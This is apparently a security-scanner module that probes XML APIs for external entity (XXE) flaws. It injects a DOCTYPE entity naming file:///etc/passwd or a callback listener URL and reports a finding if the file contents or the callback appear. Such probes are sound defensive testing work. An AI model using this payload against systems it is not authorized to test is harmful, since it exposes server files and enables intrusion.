"""External entities: a document that names a file of the server and a listener of ours."""

from __future__ import annotations

import re
from typing import Iterator

from metlo_auto.collector.security_tests.probe import Probe
from metlo_auto.collector.security_tests.results import Claim, Kind
from metlo_auto.collector.security_tests.values import Request

KIND = Kind(
    "xxe", "XML external entities", "API8:2023 Security Misconfiguration", "CWE-611",
    "Parse with defusedxml, or switch entities and DTDs off.",
)  # fmt: skip
_PASSWD = re.compile(r"root:[^:\n]*:0:0:")


def run(probe: Probe) -> Iterator[Claim]:
    base = probe.base
    if base is None or "xml" not in base.request.header("content-type").lower() or not base.request.body:
        return
    for url in ("file:///etc/passwd", ""):
        token = probe.word()
        test = probe.send(_with_entity(base.request, url or probe.world.listener.url_for(token)))
        is_read = bool(url) and _PASSWD.search(test.answer.body) is not None
        if is_read or not url and probe.world.listener.was_asked(token):
            evidence = (
                "An entity of the document gives /etc/passwd."
                if is_read
                else "An entity made the app ask our listener."
            )
            yield Claim("The XML parser opens what a document names", "high", evidence, test, base.exchange)
            return


def _with_entity(request: Request, url: str) -> Request:
    """The document with an entity in its first text."""
    body = re.sub(r"<!DOCTYPE[^>]*>", "", request.body)
    declaration = re.match(r"\s*<\?xml[^>]*\?>", body)
    head, rest = (declaration.group(), body[declaration.end() :]) if declaration else ("", body)
    root = re.search(r"<([\w:.-]+)", rest)
    doctype = f'<!DOCTYPE {root.group(1) if root else "x"} [<!ENTITY metlo SYSTEM "{url}">]>'
    changed, n = re.subn(r">([^<>]*\S[^<>]*)<", ">&metlo;<", rest, count=1)
    return request._replace(body=head + doctype + (changed if n else re.sub(r"</", "&metlo;</", rest, count=1)))
